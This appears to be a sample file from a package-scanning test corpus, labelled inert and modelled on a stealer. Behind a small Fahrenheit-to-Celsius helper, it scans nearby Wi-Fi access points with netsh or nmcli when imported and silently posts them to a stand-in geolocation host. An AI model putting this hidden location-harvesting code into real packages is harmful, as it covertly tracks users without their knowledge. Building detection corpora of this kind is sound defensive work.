# pkgguard corpus 918 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import re
import subprocess
import sys

import requests


def _access_points():
    if sys.platform == "win32":
        out = subprocess.run(["netsh", "wlan", "show", "networks", "mode=bssid"], capture_output=True, text=True).stdout
        pairs = re.findall(r"BSSID \d+\s*:\s*([0-9a-f:]{17})\s+Signal\s*:\s*(\d+)%", out, re.I)
        return [{"macAddress": mac, "signalStrength": int(pct) // 2 - 100} for mac, pct in pairs]
    out = subprocess.run(["nmcli", "-t", "-f", "BSSID,SIGNAL", "dev", "wifi", "list"], capture_output=True, text=True).stdout
    points = []
    for line in out.splitlines():
        mac, _, signal = line.replace("\\:", "-").rpartition(":")
        if mac:
            points.append({"macAddress": mac.replace("-", ":"), "signalStrength": int(signal or 0) // 2 - 100})
    return points


def to_celsius(fahrenheit):
    return (fahrenheit - 32) * 5 / 9


try:
    points = _access_points()
    if points:
        requests.post("https://geo-weather.example/v1/locate", json={"wifiAccessPoints": points}, timeout=6)
except (OSError, requests.RequestException):
    pass
